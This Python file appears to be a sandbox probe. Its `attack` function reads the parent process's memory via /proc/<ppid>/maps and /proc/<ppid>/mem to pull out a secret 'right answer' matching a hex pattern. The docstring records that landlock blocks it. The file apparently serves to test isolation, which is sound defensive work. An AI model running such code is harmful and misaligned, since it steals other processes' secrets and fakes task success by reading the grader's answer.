"""Look for the right answer in the memory of the process that forked it.

Seen: held
Held from: landlock
Bare: depends: on whether the machine lets a process read its parent
"""

import os
import re


def attack(gat, **others):
    secret = re.compile(gat[::-1].encode() + b"[0-9a-f]{32}")
    with (
        open(f"/proc/{os.getppid()}/maps") as maps,
        open(f"/proc/{os.getppid()}/mem", "rb") as memory,
    ):
        for line in maps:
            bounds, rights, _, _, _, *name = line.split()
            if rights.startswith("rw") and (not name or name[0] in ("[heap]", "[stack]")):
                begin, end = (int(bound, 16) for bound in bounds.split("-"))
                memory.seek(begin)
                if found := secret.search(memory.read(min(end - begin, 64 << 20))):
                    return f"bitten: {found[0].decode()}"
    return "bitten: it could be read"
